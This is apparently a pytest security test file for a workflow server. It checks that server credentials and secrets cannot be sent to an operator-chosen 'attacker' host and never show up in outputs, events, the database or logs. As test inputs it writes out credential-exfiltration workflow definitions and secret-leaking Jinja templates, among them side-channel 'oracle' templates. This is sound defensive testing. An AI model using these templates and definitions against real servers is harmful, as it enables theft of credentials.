"""Server credentials and secrets through a real ``orchestrion serve`` (uvicorn) process.

An operator cannot pair the server's LLM key, or any other credential, with a host of their
own: the definition is refused with a 422 naming node and field, and a loopback listener
posing as the attacker's host receives nothing, by submission or by trigger-time override.
A secret in an allowed request header reaches its listener; the node's output, the events
API, the SQLite file and the server's log (at DEBUG) hold neither it nor its transforms; a
template that would move it anywhere else is refused, and a host the policy does not list
receives nothing.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from test_api_server import Server, until

from loopback_listener import Listener, serve_listener

pytestmark = pytest.mark.slow

SECRET = "srv-Secret-Value-9f3Kq7"
LLM_KEY = "sk-server-llm-key-5d1Xz8"
GITHUB = "ghp_server_github_token_77aa"
LEAKS = [
    *(value for s in (SECRET, LLM_KEY, GITHUB) for value in (s, s[::-1], s.lower(), s.upper())),
]
OPERATOR = {"Authorization": "Bearer op-key"}
ADMIN = {"Authorization": "Bearer adm-key"}


@pytest.fixture
def attacker() -> Iterator[Listener]:
    yield from serve_listener()


@pytest.fixture
def api() -> Iterator[Listener]:
    yield from serve_listener()


@pytest.fixture
def server(tmp_path: Path, api: Listener) -> Iterator[Server]:
    policy = tmp_path / "governance.yaml"
    policy.write_text(
        "version: 1\n"
        f"secrets:\n  TOKEN:\n    hosts: ['127.0.0.1:{api.port}']\n"
        "llm:\n  providers:\n    local:\n"
        f"      base_url: {api.url}/v1\n      api_key_env: LOCAL_LLM_API_KEY\n"
    )
    env = {
        "ORCHESTRION_GOVERNANCE_FILE": str(policy),
        "ORCHESTRION_API_KEYS": "adm-key:admin,op-key:operator",
        "ORCHESTRION_SECRET_TOKEN": SECRET,
        "OPENAI_API_KEY": LLM_KEY,
        "GITHUB_TOKEN": GITHUB,
        "LOCAL_LLM_API_KEY": "sk-local-provider-key",
        "ORCHESTRION_LOG_LEVEL": "DEBUG",
    }
    running = Server(tmp_path, tmp_path / "s.db", env)
    try:
        yield running
    finally:
        assert running.stop() == 0, running.log.read_text()


def _flow(*nodes: dict[str, Any]) -> dict[str, Any]:
    return {"name": "secrets", "dag": {"nodes": [{"id": "input", "handler": "input"}, *nodes]}}


def _refused(client: httpx.Client, definition: dict[str, Any]) -> list[tuple[str, str]]:
    response = client.post("/v1/workflow", json=definition, headers=OPERATOR)
    assert response.status_code == 422, response.text
    return [(e["node"], e["field"]) for e in response.json()["errors"]]


def _run(client: httpx.Client, definition: dict[str, Any], **trigger: Any) -> dict[str, Any]:
    submitted = client.post("/v1/workflow", json=definition, headers=OPERATOR)
    assert submitted.status_code == 201, submitted.text
    execution_id = submitted.json()["execution_id"]
    triggered = client.post(f"/v1/workflow/trigger/{execution_id}", json=trigger, headers=OPERATOR)
    assert triggered.status_code == 202, triggered.text
    return until(client, execution_id, "COMPLETED", "FAILED", timeout=60)


def test_an_operator_cannot_send_a_server_credential_to_its_own_host(
    server: Server, attacker: Listener
) -> None:
    stolen = f"{attacker.url}/v1"
    with httpx.Client(base_url=server.url, timeout=10, headers=OPERATOR) as client:
        cases = [
            ({"base_url": stolen, "api_key_env": "OPENAI_API_KEY"},
             ["config.base_url", "config.api_key_env"]),
            ({"base_url": stolen, "api_key_env": "GITHUB_TOKEN", "provider": "openai"},
             ["config.base_url", "config.api_key_env"]),
            ({"base_url": stolen}, ["config.base_url"]),
            ({"api_key_env": "GITHUB_TOKEN"}, ["config.api_key_env"]),
        ]  # fmt: skip
        for config, fields in cases:
            node = {"id": "ask", "handler": "llm", "config": {"prompt": "hi", **config}}
            assert _refused(client, _flow(node)) == [("ask", f) for f in fields]
        each = {
            "id": "each",
            "handler": "map",
            "config": {
                "items": [1],
                "handler": "llm",
                "config": {"prompt": "x", "base_url": stolen},
            },
        }
        assert _refused(client, _flow(each)) == [("each", "config.config.base_url")]

        # The same pairing through a trigger-time override: 422, nothing started.
        ask = {"id": "ask", "handler": "llm", "dependencies": ["input"],
               "config": {"prompt": "hi", "provider": "offline"}}  # fmt: skip
        override = {"provider": "openai", "base_url": stolen, "api_key_env": "OPENAI_API_KEY"}
        submitted = client.post("/v1/workflow", json=_flow(ask))
        assert submitted.status_code == 201, submitted.text
        execution_id = submitted.json()["execution_id"]
        refused = client.post(
            f"/v1/workflow/trigger/{execution_id}", json={"node_overrides": {"ask": override}}
        )
        assert refused.status_code == 422, refused.text
        fields = [(e["node"], e["field"]) for e in refused.json()["errors"]]
        assert fields == [("ask", "config.base_url"), ("ask", "config.api_key_env")]
        reference_003 = client.post(f"/v1/workflow/trigger/{execution_id}", json={"ask": override})
        assert reference_003.status_code == 422, reference_003.text

        # A configured provider by name is the way: its key goes to its own origin only.
        done = _run(client, _flow({**ask, "config": {"prompt": "hi", "provider": "offline"}}))
        assert done["status"] == "COMPLETED"
    assert attacker.received == []
    _assert_no_leak(server)


def test_a_secret_flows_only_into_its_request(
    server: Server, api: Listener, attacker: Listener, tmp_path: Path
) -> None:
    headers = {
        "Authorization": "Bearer {{ secrets.TOKEN }}",
        "X-Keyed": "{{ secrets['TOKEN'] }}",
    }
    with httpx.Client(base_url=server.url, timeout=10, headers=OPERATOR) as client:
        # Anywhere but a request field, whatever the transform: refused, naming the field.
        for template in (
            "{{ secrets.TOKEN | reverse }}",
            "{{ secrets.TOKEN | lower }}",
            "{{ secrets.TOKEN[1:] }}",
            "{{ secrets.TOKEN | list | join(',') }}",
            "{% set s = secrets %}{{ s.TOKEN }}",
            "{{ secrets | attr('TOKEN') }}",
        ):
            noop = {"id": "leak", "handler": "noop", "config": {"value": template}}
            assert _refused(client, _flow(noop)) == [("leak", "config.value")]
            prompt = {"id": "ask", "handler": "llm", "config": {"prompt": template}}
            assert _refused(client, _flow(prompt)) == [("ask", "config.prompt")]
            url = {"id": "get", "handler": "http", "config": {"url": f"{api.url}/?q={template}"}}
            assert _refused(client, _flow(url)) == [("get", "config.url")]

        # A host the policy does not list: refused when written, failed when rendered.
        elsewhere = {
            "id": "out",
            "handler": "http",
            "config": {"url": attacker.url, "headers": headers},
        }
        assert _refused(client, _flow(elsewhere)) == [
            ("out", "config.headers.Authorization"),
            ("out", "config.headers.X-Keyed"),
        ]
        dynamic = {"id": "out", "handler": "http", "dependencies": ["input"],
                   "retry": {"max_attempts": 1},
                   "config": {"url": "{{ input.to }}", "headers": headers}}  # fmt: skip
        failed = _run(client, _flow(dynamic), input_params={"to": attacker.url})
        assert failed["nodes"]["out"]["error"]["category"] == "policy_violation"

        # Where the policy allows: the listener receives it, and it echoes it back.
        call = {"id": "call", "handler": "http", "dependencies": ["input"],
                "config": {"url": f"{api.url}/api", "headers": headers}}  # fmt: skip
        done = _run(client, _flow(call))
        assert done["status"] == "COMPLETED", done
        execution_id = done["execution_id"]
        results = client.get(f"/v1/workflows/{execution_id}/results", headers=ADMIN).text
        events = client.get(f"/v1/workflows/{execution_id}/events", headers=ADMIN).text
        every = client.get("/v1/events", params={"limit": 1000}, headers=ADMIN).text
        status = client.get(f"/v1/workflows/{execution_id}", headers=ADMIN).text
    [request] = api.received
    assert request["headers"]["Authorization"] == f"Bearer {SECRET}"
    assert request["headers"]["X-Keyed"] == SECRET
    assert attacker.received == []
    assert "Bearer ***" in results  # the listener's echo, scrubbed
    for text in (results, events, every, status, json.dumps(failed)):
        _no_leak(text)
    _assert_no_leak(server)


def _no_leak(text: str | bytes) -> None:
    data = text.encode() if isinstance(text, str) else text
    for value in LEAKS:
        assert value.encode() not in data, value


def _assert_no_leak(server: Server) -> None:
    """Neither the SQLite files nor the server's log (stdout and stderr) hold a secret."""
    assert server.stop() == 0
    folder = server.log.parent
    for path in folder.iterdir():
        if path.name.startswith("s.db") or path.name.startswith("server-"):
            _no_leak(path.read_bytes())
    log = server.log.read_text()
    assert "HTTP Request" in log or "POST" in log or "node" in log  # it logged something


ORACLES = [
    "{{ {}[secrets.TOKEN.encode().hex()|int(base=16)] }}",
    "{{ {}[secrets.TOKEN[3]] ~ 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789' }}",
    "{{ (1/0) if secrets.TOKEN < 'U' else {}.x }}",
    "{% set x = secrets.TOKEN %}{{ {}[x] }}",
    "{{ secrets.TOKEN ~ '' }}",
    "{{ secrets.TOKEN|string }}",
]


def test_no_oracle_on_a_secret_through_the_api(
    server: Server, api: Listener, attacker: Listener
) -> None:
    number = str(int(SECRET.encode().hex(), 16))
    with httpx.Client(base_url=server.url, timeout=10, headers=OPERATOR) as client:
        for template in ORACLES:
            for field, config in (
                ("config.headers.X-T", {"headers": {"X-T": template}}),
                ("config.json.t", {"json": {"t": template}}),
                ("config.body", {"body": template}),
            ):
                node = {"id": "n", "handler": "http", "retry": {"max_attempts": 1},
                        "config": {"url": f"{api.url}/", "method": "POST", **config}}  # fmt: skip
                response = client.post("/v1/workflow", json=_flow(node))
                assert response.status_code == 422, response.text
                [error] = response.json()["errors"]
                assert (error["node"], error["field"]) == ("n", field)
                assert "{{ secrets.NAME }}" in error["message"]
        legit = {"id": "n", "handler": "http", "config": {
            "url": f"{api.url}/ok", "method": "POST",
            "headers": {"Authorization": "Bearer {{ secrets.TOKEN }}"},
            "json": {"k": "{{ secrets['TOKEN'] }}"}}}  # fmt: skip
        done = _run(client, _flow(legit))
        assert done["status"] == "COMPLETED", done
        results = client.get(f"/v1/workflows/{done['execution_id']}/results", headers=ADMIN).text
        every = client.get("/v1/events", params={"limit": 1000}, headers=ADMIN).text
    [request] = api.received
    assert request["headers"]["Authorization"] == f"Bearer {SECRET}"
    assert json.loads(request["body"]) == {"k": SECRET}
    assert attacker.received == []
    for text in (results, every):
        _no_leak(text)
        assert number not in text
    _assert_no_leak(server)
    for path in server.log.parent.iterdir():
        if path.name.startswith("s.db") or path.name.startswith("server-"):
            assert number.encode() not in path.read_bytes()
